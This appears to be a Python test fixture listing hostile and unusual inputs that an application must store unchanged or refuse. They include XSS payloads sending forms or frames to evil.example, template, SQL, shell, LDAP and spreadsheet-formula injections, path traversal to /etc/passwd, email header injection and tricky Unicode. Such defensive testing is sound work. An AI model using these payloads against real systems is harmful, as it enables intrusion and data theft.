"""Texts that have broken something somewhere. Each must come back as it went in, or be refused in words."""

from __future__ import annotations

MARKUP = (
    "<script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</title><svg onload=alert(1)>",
    '"><img src=x onerror=alert(1)>',
    "' onmouseover='alert(1)",
    "<b>vet</b> & <i>schuin</i>",
    "<!-- <p> --> ]]> <![CDATA[ x",
    '<a href="javascript:alert(1)">klik</a>',
    "<iframe src=//evil.example></iframe>",
    "&lt;script&gt;alert(1)&lt;/script&gt; &amp;amp;",
    "<style>*{display:none}</style>",
    "<form action=//evil.example><input name=password>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<svg/onload=alert`1`>",
    "<math><mtext></p><script>1</script>",
)
TEMPLATES = (
    "{{4321*8765}}",
    "{% raw %}{{ config }}",
    "${4321*8765}",
    "#{4321*8765}",
    "<%= 4321*8765 %>",
    "{{ ''.__class__.__mro__ }}",
    "%(naam)s %s %d",
)
COMMANDS = (
    "'; DROP TABLE cases; --", "1 OR 1=1", "\" OR \"\"=\"", "admin'--", "$(reboot)", "`id`", "| cat /etc/passwd",
    "../../../etc/passwd", "=cmd|' /C calc'!A0", "+1-2", "@SUM(1+1)", "*)(uid=*))(|(uid=*", "a AND (b OR) NEAR \"c",
)  # fmt: skip
LETTERS = (
    "Zoë Ångström-Ýmir, 北京市, Ελλάδα, Москва, עברית, العربية",
    "de\u0301mentie cafe\u0301",
    "\u202egnol treb\u202c omgekeerd",
    "\u200bnul\u200dbreed\ufeff",
    "👩\u200d⚕️ 🧑🏽\u200d🦽 🏳️\u200d🌈",
    "ﷺ ﷽ ㎏ ½ Ⅷ ﬁ",
    "\u0130stanbul \u0131I ßẞ ŉ",
    "\u2028regel\u2029alinea",
    "Z̸̡̛͔a̷͉͝l̵̙͒g̴̦͝o̶͖̐",
    "w" * 60 + " " + "x" * 60,
)
REFUSED = ("nul\x00byte", "bel\x07", "esc\x1b[31mrood", "del\x7f", "los \ud800 stuk", "\x85c1")
"""Control characters and loose halves: they cannot be stored."""

ONE_LINE = ("onderwerp\r\nBcc: iemand@evil.example", "regel\nregel", "tab\ttab")
LONG = "a" * 100_000

CORPUS = (*MARKUP, *TEMPLATES, *COMMANDS, *LETTERS)
